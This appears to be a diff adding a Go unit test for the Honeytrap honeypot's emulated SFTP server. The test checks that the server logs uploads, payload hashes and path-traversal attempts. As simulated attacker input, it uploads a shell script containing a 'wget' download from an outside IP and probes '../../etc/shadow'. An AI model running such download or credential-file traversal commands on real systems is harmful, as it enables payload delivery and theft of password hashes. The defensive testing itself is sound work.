@@ -0,0 +1,201 @@
+// Copyright 2016-2019 DutchSec (https://dutchsec.com/)
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+// http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+package ssh
+
+import (
+	"encoding/binary"
+	"io"
+	"net"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/honeytrap/honeytrap/event"
+)
+
+type sftpClient struct {
+	t    *testing.T
+	conn net.Conn
+	id   uint32
+}
+
+func (c *sftpClient) request(t byte, fields ...interface{}) (byte, *payloadDecoder) {
+	p := &sftpPacket{}
+	p.WriteByte(t)
+
+	if t != sshFxpInit {
+		c.id++
+		p.uint32(c.id)
+	}
+
+	for _, f := range fields {
+		switch v := f.(type) {
+		case string:
+			p.string(v)
+		case uint32:
+			p.uint32(v)
+		case uint64:
+			p.uint64(v)
+		}
+	}
+
+	length := make([]byte, 4)
+	binary.BigEndian.PutUint32(length, uint32(p.Len()))
+
+	if _, err := c.conn.Write(append(length, p.Bytes()...)); err != nil {
+		c.t.Fatal(err)
+	}
+
+	if _, err := io.ReadFull(c.conn, length); err != nil {
+		c.t.Fatal(err)
+	}
+
+	packet := make([]byte, binary.BigEndian.Uint32(length))
+	if _, err := io.ReadFull(c.conn, packet); err != nil {
+		c.t.Fatal(err)
+	}
+
+	d := PayloadDecoder(packet)
+
+	rt := d.Byte()
+	if rt != sshFxpVersion && d.Uint32() != c.id {
+		c.t.Fatalf("Expected response to request %d", c.id)
+	}
+
+	return rt, d
+}
+
+func (c *sftpClient) handle(t byte, fields ...interface{}) string {
+	rt, d := c.request(t, fields...)
+	if rt != sshFxpHandle {
+		c.t.Fatalf("Expected handle, got %d", rt)
+	}
+
+	return d.String()
+}
+
+func (c *sftpClient) status(t byte, fields ...interface{}) uint32 {
+	rt, d := c.request(t, fields...)
+	if rt != sshFxpStatus {
+		c.t.Fatalf("Expected status, got %d", rt)
+	}
+
+	return d.Uint32()
+}
+
+func TestSFTP(t *testing.T) {
+	client, server := net.Pipe()
+
+	m := sync.Mutex{}
+	events := []event.Event{}
+
+	s := newSFTPServer(server, 1024, func(options ...event.Option) {
+		m.Lock()
+		defer m.Unlock()
+
+		events = append(events, event.New(options...))
+	})
+
+	done := make(chan error)
+	go func() {
+		done <- s.Serve()
+	}()
+
+	c := &sftpClient{t: t, conn: client}
+
+	if rt, d := c.request(sshFxpInit, uint32(3)); rt != sshFxpVersion || d.Uint32() != 3 {
+		t.Fatalf("Expected version 3")
+	}
+
+	if rt, d := c.request(sshFxpRealpath, "."); rt != sshFxpName || d.Uint32() != 1 || d.String() != "/root" {
+		t.Errorf("Expected home directory /root")
+	}
+
+	h := c.handle(sshFxpOpen, "/tmp/x.sh", uint32(sshFxfWrite|sshFxfCreat|sshFxfTrunc), uint32(0))
+
+	if code := c.status(sshFxpWrite, h, uint64(0), "#!/bin/sh\n"); code != sshFxOk {
+		t.Errorf("Expected write to succeed, got %d", code)
+	}
+
+	if code := c.status(sshFxpWrite, h, uint64(10), "wget http://203.0.113.5/x\n"); code != sshFxOk {
+		t.Errorf("Expected write to succeed, got %d", code)
+	}
+
+	if code := c.status(sshFxpWrite, h, uint64(1024), "x"); code != sshFxFailure {
+		t.Errorf("Expected write beyond the maximum upload size to fail, got %d", code)
+	}
+
+	if code := c.status(sshFxpClose, h); code != sshFxOk {
+		t.Errorf("Expected close to succeed, got %d", code)
+	}
+
+	h = c.handle(sshFxpOpendir, "/tmp")
+
+	if rt, d := c.request(sshFxpReaddir, h); rt != sshFxpName || d.Uint32() != 1 || d.String() != "x.sh" {
+		t.Errorf("Expected the uploaded file to be listed")
+	}
+
+	if code := c.status(sshFxpReaddir, h); code != sshFxEOF {
+		t.Errorf("Expected end of directory, got %d", code)
+	}
+
+	h = c.handle(sshFxpOpen, "../tmp/x.sh", uint32(sshFxfRead), uint32(0))
+
+	if rt, d := c.request(sshFxpRead, h, uint64(0), uint32(9)); rt != sshFxpData || d.String() != "#!/bin/sh" {
+		t.Errorf("Expected the file to be read")
+	}
+
+	if code := c.status(sshFxpStat, "../../etc/shadow"); code != sshFxNoSuchFile {
+		t.Errorf("Expected no such file, got %d", code)
+	}
+
+	client.Close()
+
+	if err := <-done; err != nil {
+		t.Fatal(err)
+	}
+
+	m.Lock()
+	defer m.Unlock()
+
+	types := []string{}
+	for _, e := range events {
+		types = append(types, e.Get("type"))
+	}
+
+	if s := strings.Join(types, ","); s != "sftp-open,sftp-upload,sftp-opendir,sftp-open,sftp-stat" {
+		t.Fatalf("Unexpected events %s", s)
+	}
+
+	if v := events[1].Get("payload"); v != "#!/bin/sh\nwget http://203.0.113.5/x\n" {
+		t.Errorf("Expected the uploaded file as payload, got %q", v)
+	}
+
+	if v := events[1].Get("ssh.sftp.sha256"); len(v) != 64 {
+		t.Errorf("Expected the hash of the file, got %s", v)
+	}
+
+	var patterns []string
+	events[4].Range(func(k, v interface{}) bool {
+		if k == "ssh.sftp.traversal" {
+			patterns = v.([]string)
+		}
+
+		return true
+	})
+
+	if s := strings.Join(patterns, ","); s != "dot-dot,sensitive" {
+		t.Errorf("Expected dot-dot and sensitive traversal, got %s", s)
+	}
+}